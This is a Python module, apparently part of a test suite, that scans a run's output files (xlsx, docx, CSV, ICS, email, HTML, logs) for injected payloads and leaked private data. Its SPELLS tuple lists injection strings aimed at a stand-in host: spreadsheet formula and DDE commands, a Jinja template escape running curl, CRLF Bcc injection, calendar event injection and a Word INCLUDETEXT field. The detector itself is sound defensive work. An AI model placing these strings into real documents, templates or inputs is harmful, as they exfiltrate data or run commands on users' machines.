"""Looks through everything a run has written for what must not stand there: spells that came alive, and private data."""

# ruff: noqa: E501 - a row stands on a line
from __future__ import annotations

import csv
import getpass
import io
import re
import socket
import zipfile
from email import message_from_bytes
from email.policy import default
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

#: Where a spell leads, in any of its forms.
EVIL = "evil.example"
#: What somebody who means harm types into a cell of text.
SPELLS = (
    f'=HYPERLINK("http://{EVIL}/?"&A1,"点")', f"+cmd|'/c curl {EVIL}'!A0", f"@SUM(1)*WEBSERVICE(\"http://{EVIL}\")",
    f'<script>fetch("//{EVIL}")</script>', f"甲\r\nBcc: x@{EVIL}", f"乙\nEND:VEVENT\nBEGIN:VEVENT\nURL:http://{EVIL}",
    f"{{{{ cycler.__init__.__globals__.os.popen('curl {EVIL}') }}}}", f"../../{EVIL}", f"</w:t><w:instrText>INCLUDETEXT http://{EVIL}",
)
_FORMULA = re.compile(rb"<(?:[\w.-]+:)?(?:f|formula\d?|definedName)(?:\s[^>]*)?>([^<]*)<")
_OUTSIDE = re.compile(rb"<Relationship\s[^>]*TargetMode=\"External\"[^>]*>")
_FIELD = re.compile(rb"<w:instrText[^>]*>([^<]*)<|<w:fldSimple[^>]*w:instr=\"([^\"]*)\"")
_AUTHORS = re.compile(rb"<(?:dc:creator|cp:lastModifiedBy|Company|Manager)>([^<]*)<")
_LIVE = ("=", "+", "-", "@", "\t", "\r")
_FIGURE = re.compile(r"[+-]?[\d,.]+%?")


def problems(folder: Path, private: tuple[str, ...]) -> list[str]:
    """What is wrong with the files below a folder; ``private`` must stand in no log, name, work file or property."""
    found = []
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            found += [f"{path.relative_to(folder)}: {said}" for said in _file(path, private)]
    return found


def _file(path: Path, private: tuple[str, ...]) -> Iterator[str]:
    if path.name.startswith((".~", "~$")) or path.suffix == ".tmp":
        yield "a work file left behind"
    data = path.read_bytes()
    match path.suffix.lower():
        case ".xlsx" | ".xlsm" | ".docx":
            yield from _package(data, private)
        case ".csv":
            yield from _table(data)
        case ".ics":
            yield from _events(data)
        case ".eml":
            yield from _draft(data)
        case ".html" | ".svg":
            if b"<script>fetch" in data or re.search(rb"(?:src|href)=\"[^\"]*" + EVIL.encode(), data):
                yield "a script or link of the spell"
        case ".log" | ".jsonl" | ".txt":
            yield from (f"{one} in a log" for one in private if one.encode() in data)


def _package(data: bytes, private: tuple[str, ...]) -> Iterator[str]:
    evil = EVIL.encode()
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            body = book.read(name)
            if name.lower().endswith("vbaproject.bin"):
                yield "macros"
            if any(evil in match[1] for match in _FORMULA.finditer(body)):
                yield f"{name}: a formula of the spell"
            if any(evil in match[0] for match in _OUTSIDE.finditer(body)):
                yield f"{name}: a link of the spell"
            if any(evil in (match[1] or match[2] or b"") for match in _FIELD.finditer(body)):
                yield f"{name}: a field of the spell"
            if name.startswith("docProps/"):
                told = [one for one in (*private, getpass.getuser(), socket.gethostname()) if one]
                authors = b"|".join(_AUTHORS.findall(body)).decode()
                yield from (f"{name}: {one}" for one in told if one in authors)
                yield from (f"{name}: {one}" for one in private if one.encode() in body)


def _table(data: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for cell in row:
            if cell.startswith(_LIVE) and not _FIGURE.fullmatch(cell):
                yield f"a cell that a spreadsheet would run: {cell[:30]!r}"


def _events(data: bytes) -> Iterator[str]:
    lines = data.decode().replace("\r\n ", "").replace("\n ", "").splitlines()
    if lines.count("BEGIN:VEVENT") != sum(line.startswith("UID") for line in lines):
        yield "an event that nobody wrote"
    yield from (f"a line of the spell: {line[:40]}" for line in lines if line.startswith(("URL:", "Bcc")))


def _draft(data: bytes) -> Iterator[str]:
    message = message_from_bytes(data, policy=default)
    yield from (f"a header of the spell: {name}" for name in message if name.lower() in ("bcc", "cc") or (EVIL in str(message[name]) and name == "To"))
